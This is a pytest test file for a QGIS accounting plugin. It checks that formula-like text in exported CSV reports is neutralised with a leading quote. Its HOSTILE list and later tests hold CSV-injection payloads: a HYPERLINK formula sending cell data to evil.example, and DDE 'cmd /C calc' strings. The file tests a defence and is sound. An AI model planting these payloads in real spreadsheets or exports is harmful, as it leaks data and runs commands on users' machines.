"""Spreadsheet formulas in the CSV files the plugin writes (OWASP "CSV
injection"): text that a spreadsheet would run as a formula is written with a
leading single quote and quoted, so the accountant reads the same text and
nothing runs; numbers stay bare numbers."""
import csv

import pytest

from sit_chartreuse.core import safe_csv
from sit_chartreuse.core.agreement import convention, settlement
from sit_chartreuse.core.reports import report
from sit_chartreuse.core.storage import store
from sit_chartreuse.processing.import_time import write_report

# What a hostile or careless writer may put in an agreement or a delivery.
HOSTILE = ['=HYPERLINK("https://evil.example/?d="&A1;"Détail")', "+1+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def read(path, delimiter, encoding="utf-8"):
    with open(path, encoding=encoding, newline="") as f:
        return list(csv.reader(f, delimiter=delimiter))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_cell_is_quoted_behind_a_single_quote(text):
    assert safe_csv.cell(text, ";") == '"\'%s"' % text.replace('"', '""')


@pytest.mark.parametrize("text", ["-1234,56", "1200,00", "-3", "2026", "12.5", ""])
def test_numbers_stay_numbers(text):
    assert safe_csv.cell(text, ";") == text


def test_plain_text_is_left_alone_and_quoted_only_when_needed():
    assert safe_csv.cell("Hébergement", ";") == "Hébergement"
    assert safe_csv.cell("a;b", ";") == '"a;b"'
    assert safe_csv.cell('dit "oui"', ",") == '"dit ""oui"""'
    assert safe_csv.cell("2026-03-02", ";") == "2026-03-02"   # a date, not a subtraction
    assert safe_csv.cell(None, ";") == ""


def test_settlement_csv_neutralises_the_reference_and_the_labels(store_location, tmp_path):
    conn = store.open_store(store_location)
    conn.execute("UPDATE convention SET reference = ?", (HOSTILE[0],))
    codes = [r[0] for r in conn.execute("SELECT code FROM convention_line ORDER BY position")]
    labels = dict(zip(codes, HOSTILE[1:]))
    for code, label in labels.items():
        conn.execute("UPDATE convention_line SET label = ? WHERE code = ?", (label, code))
    result = settlement.compute(conn, convention.find_convention(conn), 2026)
    conn.close()
    path = report.write_csv(result, str(tmp_path / "decompte.csv"))

    rows = read(path, ";", "utf-8-sig")
    assert rows[0] == report.CSV_HEADER
    assert {row[1] for row in rows[1:]} == {"'" + HOSTILE[0]}
    assert {row[2]: row[3] for row in rows[1:-1]} == {c: "'" + l for c, l in labels.items()}
    # Amounts stay numbers, written bare: nothing was spent, so the
    # difference is negative (-17 200,00 € HT).
    difference = report.csv_amount(result.total_ht_cents - result.provisional_ht_cents)
    assert difference.startswith("-")
    with open(path, encoding="utf-8-sig", newline="") as f:
        total = f.read().split("\r\n")[-2]
    assert total.endswith(";" + difference) and rows[-1][-1] == difference


def test_defects_csv_neutralises_a_deliverys_identifiers(store_location, run_algorithm,
                                                         tmp_path):
    # Containers of an unknown stream are refused, and named by their identifier
    # (GDAL reads a carriage return inside a field as a line feed: left out).
    identifiers = HOSTILE[:5]
    lines = ["identifiant;type;lon;lat"]
    lines += ['"%s";Amiante;5.785;45.37' % text.replace('"', '""') for text in identifiers]
    delivery = tmp_path / "points.csv"
    delivery.write_text("\n".join(lines) + "\n", encoding="utf-8")
    defects = str(tmp_path / "defauts.csv")
    result = run_algorithm("importpav", {"STORE": str(store_location), "INPUT": str(delivery),
                                         "OUTPUT_REPORT": str(tmp_path / "rapport.html"),
                                         "OUTPUT_DEFECTS": defects})
    assert "5 refused" in result["SUMMARY"]
    rows = read(defects, ",")
    assert rows[0] == ["layer", "feature", "rule", "message", "level"]
    # The importer trims identifiers ("\t=1+1" is "=1+1"): still a formula.
    assert sorted(row[1] for row in rows[1:]) == sorted("'" + text.strip() for text in identifiers)


def test_time_import_report_neutralises_the_reasons(sit_processing, new_store, tmp_path):
    from qgis.core import QgsProcessingException
    from ledger_helpers import sample_features
    from sit_chartreuse.core.i18n import tr
    sample_features(new_store)
    # The reason of a refused line starts with the layer the file names.
    layer = '=HYPERLINK("https://evil.example";"x")'
    bad = tmp_path / "temps.csv"
    bad.write_text("date;agent;hours;category;application;layer;feature_uuid;code;ticket;"
                   "title;note\n2026-02-03;l.bonnet;1;hotline;plui;\"%s\";;;;Appel;\n"
                   % layer.replace('"', '""'), encoding="utf-8")
    report_path = str(tmp_path / "rapport.csv")
    algorithm = sit_processing.createAlgorithmById("sitchartreuse:importtime")
    from qgis.core import QgsProcessingContext, QgsProcessingFeedback
    with pytest.raises(QgsProcessingException):
        algorithm.processAlgorithm({"STORE": new_store, "INPUT": str(bad),
                                    "OUTPUT_REPORT": report_path},
                                   QgsProcessingContext(), QgsProcessingFeedback())
    rows = read(report_path, ";")
    assert rows[1][:2] == ["2", tr("refused")]
    assert rows[1][4].startswith("'" + layer)
    # The writer itself, for any other cell.
    write_report(report_path, [(1, "@SUM(1+1)", "", "", "-3")])
    assert read(report_path, ";")[1] == ["1", "'@SUM(1+1)", "", "", "-3"]
